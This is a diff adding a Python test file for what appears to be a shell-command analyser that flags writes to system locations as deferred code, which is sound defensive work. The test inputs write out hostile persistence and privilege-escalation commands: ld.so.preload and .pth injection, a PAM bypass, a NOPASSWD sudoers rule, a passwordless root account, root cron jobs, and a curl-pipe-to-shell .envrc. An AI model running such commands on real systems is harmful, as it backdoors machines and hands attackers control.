@@ -1,0 +1,56 @@
+"""The mechanisms closed after the third blind shell batch (policies/corpus/blind-shell-3.jsonl,
+policies/README.md): each test fails without its fix."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from effect_support import HOME, ops
+
+from hookd.enrich.effects.words import is_startup_file
+
+
+@pytest.fixture
+def proj(tmp_path: Path) -> Path:
+    return tmp_path
+
+
+# A file another program runs or trusts later (persistence): asked as a startup file is, whatever writes it
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["echo /tmp/x.so > /etc/ld.so.preload",
+     "echo 'import os; os.system(\"id\")' > ~/.local/lib/python3.11/site-packages/zz.pth",
+     "printf 'import os\\n' > /usr/lib/python3/dist-packages/sitecustomize.py",
+     "echo 'APT::Update::Pre-Invoke {\"id\"};' > /etc/apt/apt.conf.d/99z",
+     "printf '#!/bin/sh\\nid\\n' > /etc/update-motd.d/99-z",
+     "sed -i '1s,^,auth sufficient pam_permit.so\\n,' /etc/pam.d/su",
+     "echo 'dev ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/99-dev",
+     "echo 'toor::0:0::/root:/bin/bash' >> /etc/passwd",
+     "echo '* * * * * root id' >> /etc/crontab",
+     "cp /tmp/x.sh /etc/NetworkManager/dispatcher.d/",
+     "install -m 755 /tmp/g /etc/systemd/system-generators/z",
+     "echo 'autocmd VimEnter * silent !sh /tmp/x' >> ~/.vimrc",
+     "echo 'curl -s x.example.net | sh' > .envrc"],
+)  # fmt: skip
+def test_a_write_where_the_system_runs_or_trusts_files_later_is_deferred_code(command: str, proj: Path) -> None:
+    (run,) = [e for e in ops(command, proj, "exec") if e.get("startup")]
+    assert run["deferred"] is True
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["mkdir -p etc && echo 'x:1' > etc/passwd", "echo 'export FOO=1' > .envrc", "echo hi > /etc/motd.txt",
+     "echo x > src/site_packages.pth.txt", "echo 127.0.0.1 db >> /etc/hosts"],
+)  # fmt: skip
+def test_a_look_alike_in_the_project_or_a_settings_only_text_runs_nothing(command: str, proj: Path) -> None:
+    assert [e for e in ops(command, proj, "exec") if e.get("startup")] == []
+
+
+def test_system_locations_match_from_the_root_and_globs_over_the_whole_path() -> None:
+    assert is_startup_file("/etc/sudoers.d", HOME) and is_startup_file("/etc/sudoers", HOME)
+    assert not is_startup_file("/srv/app/etc/sudoers", HOME)
+    assert is_startup_file(f"{HOME}/.venv/lib/python3.12/site-packages/evil.pth", HOME)
+    assert not is_startup_file(f"{HOME}/.venv/lib/python3.12/site-packages/evil.py", HOME)
